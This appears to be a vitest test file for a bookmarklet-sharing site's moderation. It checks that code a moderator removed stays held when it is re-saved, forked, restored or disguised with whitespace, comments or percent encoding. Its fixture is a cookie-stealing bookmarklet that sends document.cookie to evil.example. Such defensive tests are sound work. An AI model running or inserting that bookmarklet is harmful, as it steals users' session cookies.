import type { TransactionSql } from "postgres";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
import { type SavedScript, save } from "../support/save.ts";

const fixture = openFixture();
const { anon, owner } = fixture.people;
afterAll(() => fixture.close());
beforeEach(() => forgetRates(fixture));

let author: Person & { readonly id: string };
let somebodyElse: Person & { readonly id: string };
beforeAll(async () => {
	author = await newcomer(fixture, "Mallory");
	somebodyElse = await newcomer(fixture, "Mallory's friend");
});

const remove = (id: string) =>
	fixture.sql`update public.bookmarklets set moderation_status = 'removed' where id = ${id}`;
const approve = (id: string) =>
	fixture.sql`update public.bookmarklets set moderation_status = 'approved' where id = ${id}`;
const isPublic = async (id: string) => ((await anon.hub.rpc("get_script", { p_id: id })).data ?? []).length === 1;
const delete_ = async (id: string) => {
	const { error } = await author.hub.rpc("delete_script", { p_id: id });
	expect(error).toBeNull();
};

const fingerprintCalls = async (sql: TransactionSql): Promise<number> => {
	const [row] = await sql<{ calls: number }[]>`
		select coalesce(pg_stat_get_xact_function_calls('private.code_fingerprint(text)'::regprocedure), 0)::integer as calls`;
	return row?.calls ?? 0;
};

/** Unique code, saved by the author and removed by a moderator. */
async function removedCode(): Promise<{ readonly code: string; readonly saved: SavedScript }> {
	const code = `javascript:(()=>{ fetch("https://evil.example/" + document.cookie); /* ${crypto.randomUUID()} */ })("${crypto.randomUUID()}")`;
	const saved = await save(author, { p_code: code });
	await remove(saved.id);
	return { code, saved };
}

describe("code that a moderator removed", () => {
	test("is held for review when its author deletes the script and saves the same code again", async () => {
		const { code, saved } = await removedCode();
		await delete_(saved.id);
		await author.hub.rpc("purge_scripts", { p_ids: [saved.id] });
		const again = await save(author, { p_code: code });
		expect(again).toMatchObject({ is_published: true, moderation_status: "pending" });
		expect(await isPublic(again.id)).toBe(false);
		const [report] = await fixture.sql`
			select reason, status, reporter_id from public.moderation_reports where bookmarklet_id = ${again.id}`;
		expect(report).toEqual({ reason: "malicious", status: "pending", reporter_id: null });
	});

	test("is held when another account saves it, also as a new version of a public script", async () => {
		const { code } = await removedCode();
		expect(await save(somebodyElse, { p_code: code })).toMatchObject({ moderation_status: "pending" });
		const harmless = await save(somebodyElse);
		expect(harmless.moderation_status).toBe("none");
		const update = { p_id: harmless.id, p_base_version_id: harmless.version_id };
		expect(await save(somebodyElse, { ...update, p_code: code })).toMatchObject({ moderation_status: "pending" });
		expect(await isPublic(harmless.id)).toBe(false);
	});

	test("costs one fingerprint of a saved script, however much code was removed", async () => {
		for (const _ of "123") await removedCode();
		const draft = await save(author, { p_publish: false });
		const calls = await fixture.sql.begin(async (sql) => {
			await sql`set local track_functions = 'all'`;
			const published: number[] = [];
			// After a few executions PostgreSQL keeps a plan that knows no parameters. With statistics about few rows, it reads all of them.
			await sql`analyze private.removed_versions`;
			for (const _ of "1234567890") {
				await sql`update public.bookmarklets set is_published = false where id = ${draft.id}`;
				const before = await fingerprintCalls(sql);
				await sql`update public.bookmarklets set is_published = true where id = ${draft.id}`;
				published.push((await fingerprintCalls(sql)) - before);
			}
			return published;
		});
		expect(calls).toEqual(calls.map(() => 1));
	});

	test.each([
		["other white space", (code: string) => code.replaceAll("; ", ";\n\n\t").replaceAll(" + ", "+")],
		["another comment", (code: string) => code.replace(/\/\*.*?\*\//, "/* nothing to see */ // really\n")],
		["a metadata block", (code: string) => `// ==UserScript==\n// @name Nice\n// ==/UserScript==\n${code.slice(11)}`],
		["percent escapes", (code: string) => `javascript:${encodeURIComponent(code.slice(11))}`],
		["semicolons", (code: string) => `${code};;`],
	])("is recognized with %s", async (_what, change) => {
		const { code } = await removedCode();
		const disguised = change(code);
		expect(disguised).not.toBe(code);
		expect(await save(somebodyElse, { p_code: disguised })).toMatchObject({ moderation_status: "pending" });
	});

	test("is held when a copy that was public before is forked or restored", async () => {
		const code = `javascript:void '${crypto.randomUUID()}'`;
		const copy = await save(somebodyElse, { p_code: code });
		const original = await save(author, { p_code: code });
		await remove(original.id);
		const forked = await author.hub.rpc("fork_script", {
			p_bookmarklet_id: copy.id,
			p_title: "A copy of it",
			p_description: "The same with another name.",
		});
		expect(forked.data).toMatchObject([{ moderation_status: "none" }]);
		const id = forked.data?.[0]?.id ?? "";
		expect(await author.hub.rpc("publish_script", { p_id: id, p_published: true })).toMatchObject({ data: false });
		expect(await isPublic(id)).toBe(false);
		const newer = await save(somebodyElse, { p_id: copy.id, p_base_version_id: copy.version_id });
		expect(newer.moderation_status).toBe("none");
		const restored = await somebodyElse.hub.rpc("restore_version", {
			p_version_id: copy.version_id,
			p_base_version_id: newer.version_id,
		});
		expect(restored.data).toMatchObject([{ moderation_status: "pending" }]);
	});

	test("is held when a draft with it is published, by a save or by itself", async () => {
		const { code } = await removedCode();
		const draft = await save(somebodyElse, { p_code: code, p_publish: false });
		expect(draft).toMatchObject({ is_published: false, moderation_status: "none" });
		const published = await somebodyElse.hub.rpc("publish_script", { p_id: draft.id, p_published: true });
		expect(published).toMatchObject({ error: null, data: false });
		expect(await isPublic(draft.id)).toBe(false);
		const second = await save(somebodyElse, { p_code: code, p_publish: false });
		const update = { p_id: second.id, p_base_version_id: second.version_id, p_publish: true };
		expect(await save(somebodyElse, { ...update, p_code: code })).toMatchObject({ moderation_status: "pending" });
	});

	test("stays hidden when its owner withdraws and publishes it, or saves other code over it", async () => {
		const { code } = await removedCode();
		const held = await save(somebodyElse, { p_code: code });
		for (const p_published of [false, true]) {
			await somebodyElse.hub.rpc("publish_script", { p_id: held.id, p_published });
			expect(await isPublic(held.id)).toBe(false);
		}
		const harmless = await save(somebodyElse, { p_id: held.id, p_base_version_id: held.version_id, p_publish: true });
		expect(harmless.moderation_status).toBe("pending");
		expect(await isPublic(held.id)).toBe(false);
	});

	test("is public once a moderator approves it, and then again for everybody", async () => {
		const { code } = await removedCode();
		const held = await save(somebodyElse, { p_code: code });
		await approve(held.id);
		expect(await isPublic(held.id)).toBe(true);
		expect(await save(owner, { p_code: code })).toMatchObject({ moderation_status: "none" });
	});

	test("is still distinguished from unknown code after its script was deleted", async () => {
		const { saved } = await removedCode();
		const [version] = await fixture.sql<{ sha256: string }[]>`
			select sha256 from public.versions where id = ${saved.version_id}`;
		await delete_(saved.id);
		expect((await anon.hub.rpc("script_was_removed", { p_bookmarklet_id: saved.id })).data).toBe(true);
		await author.hub.rpc("purge_scripts", { p_ids: [saved.id] });
		expect((await anon.hub.rpc("script_was_removed", { p_bookmarklet_id: saved.id })).data).toBe(true);
		expect((await anon.hub.rpc("version_was_removed", { p_sha256: version?.sha256 ?? "" })).data).toBe(true);
	});
});

test("other code is not held, also where only what follows an address differs", async () => {
	const at = (path: string) => `javascript:location='https://x.example/${path}'`;
	const removed = await save(author, { p_code: at("bad") });
	await remove(removed.id);
	expect(await save(author, { p_code: at("good") })).toMatchObject({ moderation_status: "none" });
	const pattern = (rest: string) => `javascript:document.title=location.href.replace(/^https?:\\/\\//,'')${rest}`;
	await remove((await save(author, { p_code: pattern("+1") })).id);
	expect(await save(author, { p_code: pattern("+2") })).toMatchObject({ moderation_status: "none" });
});
